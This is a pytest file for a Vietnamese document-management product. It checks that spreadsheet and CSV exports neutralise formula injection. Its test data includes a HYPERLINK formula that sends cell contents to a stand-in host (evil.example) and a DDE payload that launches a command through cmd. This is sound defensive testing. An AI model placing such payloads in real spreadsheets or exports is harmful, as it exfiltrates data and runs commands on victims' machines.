"""Text typed by users never becomes a live formula in an exported spreadsheet
(CSV/formula injection): every .xlsx and .csv the product writes goes through
qms.spreadsheets.safe_cell, which gives text starting with = + - @ tab or
carriage return a leading apostrophe and stores it as text."""

import csv
import datetime
import io
import zipfile

import pytest
from openpyxl import load_workbook

from procedures.copies import exports
from tests.procedures.control_helpers import issue_now
from tests.procedures.factories import ExternalDocumentFactory, RecordTypeFactory
from tests.procedures.test_acknowledgements import distribute

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Quy trình = tốt", "Quy trình = tốt"),
        (-5, -5),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_safe_cell_defuses_formula_text_and_leaves_numbers(typed, written):
    from qms.spreadsheets import safe_cell

    assert safe_cell(typed) == written


@pytest.fixture
def hostile_records(client, org, make_document, django_capture_on_commit_callbacks):
    """A page title, an external document and a record type typed as formulas."""
    document = make_document(title=HYPERLINK)
    distribute(client, org["secretary"], document, departments=[org["ccvc"]])
    issue_now(client, org, document, django_capture_on_commit_callbacks)
    ExternalDocumentFactory(
        number="01/2025/TT-BNV", title=HYPERLINK, issuing_body=DDE, issue_date=datetime.date(2025, 1, 1)
    )
    RecordTypeFactory(code="HS-01", name=DDE, keeper_department=org["ccvc"], retention_years=5)
    return document


def xlsx_cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def body(response):
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def register_xlsx(client, org):
    client.force_login(org["secretary"])
    return xlsx_cells(body(client.get("/admin/qms/register/?export=xlsx")))


def register_in_zip_export(client, org):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        exports.write_register(archive, exports.registers.register_queryset(org["secretary"]))
    return xlsx_cells(zipfile.ZipFile(out).read(exports.REGISTER_NAME))


def not_read_xlsx(client, org):
    client.force_login(org["secretary"])
    return xlsx_cells(body(client.get("/kiem-soat/doc-hieu/?format=xlsx")))


def external_documents_xlsx(client, org):
    client.force_login(org["staff"])
    return xlsx_cells(body(client.get("/kiem-soat/tai-lieu-ben-ngoai/?format=xlsx")))


def records_xlsx(client, org):
    client.force_login(org["staff"])
    return xlsx_cells(body(client.get("/kiem-soat/danh-muc-ho-so/?format=xlsx")))


def site_history_xlsx(client, org):
    org["secretary"].is_superuser = True
    org["secretary"].save()
    client.force_login(org["secretary"])
    return xlsx_cells(body(client.get("/admin/reports/site-history/?export=xlsx")))


XLSX_EXPORTS = {
    "document register": (register_xlsx, [HYPERLINK]),
    "register in the zip export": (register_in_zip_export, [HYPERLINK]),
    "reading completion": (not_read_xlsx, [HYPERLINK]),
    "external documents": (external_documents_xlsx, [HYPERLINK, DDE]),
    "records list": (records_xlsx, [DDE]),
    # Wagtail names a document by its code first ("QT-01 – =HYPERLINK(…)"): no formula to begin with.
    "Wagtail site history": (site_history_xlsx, []),
}


@pytest.mark.parametrize("export", XLSX_EXPORTS)
def test_no_xlsx_export_holds_a_formula(client, org, hostile_records, export):
    read, typed = XLSX_EXPORTS[export]
    cells = read(client, org)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells}
    if export == "Wagtail site history":
        assert f"{hostile_records.code} – {HYPERLINK}" in texts
    for value in typed:
        assert "'" + value in texts
        assert value not in texts


CSV_EXPORTS = {
    "document register": "/admin/qms/register/?export=csv",
    "Wagtail site history": "/admin/reports/site-history/?export=csv",
}


@pytest.mark.parametrize("export", CSV_EXPORTS)
def test_no_csv_export_holds_a_formula(client, org, hostile_records, export):
    org["secretary"].is_superuser = True
    org["secretary"].save()
    client.force_login(org["secretary"])
    rows = list(csv.reader(io.StringIO(body(client.get(CSV_EXPORTS[export])).decode("utf-8-sig"))))
    fields = [field for row in rows for field in row]
    if export == "Wagtail site history":  # the document named by its code first
        assert f"{hostile_records.code} – {HYPERLINK}" in fields
    else:
        assert "'" + HYPERLINK in fields
    assert not [field for field in fields if field.startswith(("=", "+", "-", "@", "\t", "\r"))]
